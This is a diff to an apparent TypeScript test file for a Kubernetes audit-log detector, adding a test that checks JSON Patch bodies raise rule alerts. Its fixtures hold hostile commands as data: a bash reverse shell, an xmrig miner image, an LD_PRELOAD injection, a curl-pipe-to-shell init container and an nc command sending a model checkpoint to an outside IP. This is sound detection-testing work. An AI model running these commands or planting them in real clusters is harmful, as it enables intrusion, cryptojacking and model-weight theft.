@@ -16,7 +16,7 @@ const CKPT = { name: 'ck', persistentVolumeClaim: { claimName: 'llama-ft-ckpt' }
 
 let n = 0;
 /** One audit.k8s.io/v1 Event line at level Request: a write of `resource` with `body`, a second after the one before. */
-function write(verb: string, resource: string, body: Record<string, unknown>, code = 201, user: Record<string, unknown> = ALICE, apiGroup = '', subresource = '', query = ''): string {
+function write(verb: string, resource: string, body: Record<string, unknown> | unknown[], code = 201, user: Record<string, unknown> = ALICE, apiGroup = '', subresource = '', query = ''): string {
   const at = new Date(Date.UTC(2026, 10, 20, 9, 0, n++)).toISOString();
   const base = apiGroup === '' ? '/api/v1' : `/apis/${apiGroup}/v1`;
   return JSON.stringify({
@@ -122,6 +122,41 @@ describe('workload rules through the real audit reader', () => {
       '11 rayjobs MLS-RAY-036 alert',
       '12 pods -',
       '13 jobs -',
+    ]);
+  });
+
+  it('read a JSON Patch body (kubectl patch --type=json) as what it writes', async () => {
+    const replace = (path: string, value: unknown): Record<string, unknown> => ({ op: 'replace', path, value });
+    const add = (path: string, value: unknown): Record<string, unknown> => ({ op: 'add', path, value });
+    const C0 = '/spec/template/spec/containers/0';
+    const lines = [
+      // A Deployment's command replaced with a reverse shell (MLS-RAY-034), its image with a miner (MLS-RAY-033),
+      // a preload from a host path added to its env (MLS-RAY-035), an init container that fetches and runs code (MLS-RAY-036).
+      write('patch', 'deployments', [replace(`${C0}/command`, ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])], 200, ALICE, 'apps'),
+      write('patch', 'deployments', [replace(`${C0}/image`, 'docker.io/xmrig/xmrig:6.21.0')], 200, ALICE, 'apps'),
+      write('patch', 'pytorchjobs', [add('/spec/pytorchReplicaSpecs/Worker/template/spec/containers/0/env/-', { name: 'LD_PRELOAD', value: '/host/var/lib/x/libcudahook.so' })], 200, ALICE, 'kubeflow.org'),
+      write('patch', 'deployments', [add('/spec/template/spec/initContainers', [{ name: 'i', image: 'curlimages/curl', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'] }])], 200, ALICE, 'apps'),
+      // One argument replaced below a command the patch does not carry: that argument is what it writes (MLS-EXFIL-049).
+      write('patch', 'pods', [add('/spec/containers/0/args', ['-c', 'nc 203.0.113.7 4444 < /mnt/ckpt/model.safetensors'])], 200),
+      // Everyday patches (left): a replica count, an image bump, a label; a dry run of the shell; a status patch.
+      write('patch', 'deployments', [replace('/spec/replicas', 4)], 200, ALICE, 'apps'),
+      write('patch', 'deployments', [replace(`${C0}/image`, 'corp/llama-ft:1.5'), replace(`${C0}/command`, ['torchrun', 'train.py'])], 200, ALICE, 'apps'),
+      write('patch', 'deployments', [add('/metadata/labels/team', 'ml')], 200, ALICE, 'apps'),
+      write('patch', 'deployments', [replace(`${C0}/command`, ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])], 200, ALICE, 'apps', '', '?dryRun=All'),
+      write('patch', 'pods', [replace('/status/phase', 'Running')], 200, { username: 'system:node:gpu-node-7', groups: ['system:nodes'] }, '', 'status'),
+    ];
+    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
+    expect(got).toEqual([
+      '1 deployments MLS-RAY-034 alert',
+      '2 deployments MLS-RAY-033 alert',
+      '3 pytorchjobs MLS-RAY-035 alert',
+      '4 deployments MLS-RAY-036 alert',
+      '5 pods MLS-EXFIL-049 alert',
+      '6 deployments -',
+      '7 deployments -',
+      '8 deployments -',
+      '9 deployments -',
+      '10 pods/status -',
     ]);
   });
 });
